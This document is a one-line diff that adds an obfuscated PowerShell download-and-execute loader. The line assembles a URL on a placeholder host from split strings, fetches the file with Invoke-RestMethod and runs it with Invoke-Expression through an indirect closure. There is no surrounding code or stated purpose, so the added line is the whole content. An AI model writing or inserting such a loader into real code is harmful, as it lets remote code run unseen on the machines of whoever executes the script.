@@ -1,0 +1,1 @@
+$sb={param($a,$b) $a+$b};$u=$sb.Invoke('http://a0.','example/p.txt')[0];$r={iex(irm $args[0])}.GetNewClosure();&$r $u
